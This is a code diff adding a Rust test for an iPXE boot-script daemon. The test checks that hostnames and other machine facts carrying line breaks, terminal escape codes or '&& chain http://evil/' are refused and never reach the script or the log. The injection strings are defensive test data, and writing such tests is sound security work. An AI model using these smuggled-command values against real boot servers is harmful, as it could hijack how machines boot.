@@ -404,3 +404,37 @@ fn json_logs_carry_the_mac_as_a_field() {
     assert_eq!(v["fields"]["served"], "ipxe", "{line}");
     assert_eq!(v["fields"]["status"], 200, "{line}");
 }
+
+/// A hostname with a line break (or an escape sequence, or iPXE's `&&`) cannot add a command
+/// to an iPXE script or a line to the log: the request is refused with the reason, and the
+/// machine without a profile hostname still gets a clean script when it reports a good one.
+#[tokio::test]
+async fn hostile_facts_are_refused_and_reach_no_script_or_log_line() {
+    let dir = lab();
+    write(
+        dir.path(),
+        "profiles/any.toml",
+        "default = true\n[boot]\nkernel = \"k\"\n",
+    );
+    let d = Daemon::start(&dir.path().join("kindling.toml"));
+    for attack in [
+        "hostname=x%0Aexit",
+        "hostname=x%0D%0Achain%20http://evil/",
+        "serial=%1B%5B2J",
+        "product=pc%20%26%26%20chain%20http://evil/",
+    ] {
+        let (status, body) = get(&d.url(&format!("/ipxe?mac=52:54:00:aa:00:99&{attack}"))).await;
+        assert_eq!(status, 400, "{attack}: {body}");
+        assert!(body.starts_with("kindling: "), "{body}");
+    }
+    let (status, script) = get(&d.url("/ipxe?mac=52:54:00:aa:00:99&hostname=box-9")).await;
+    assert_eq!(status, 200, "{script}");
+    assert!(script.contains("(box-9)"), "{script}");
+    assert!(!script.contains("evil") && !script.lines().any(|l| l.trim() == "exit"));
+    let log = d.log_text();
+    assert!(
+        !log.lines()
+            .any(|l| l.starts_with("exit") || l.starts_with("chain") || l.contains('\u{1b}')),
+        "{log}"
+    );
+}
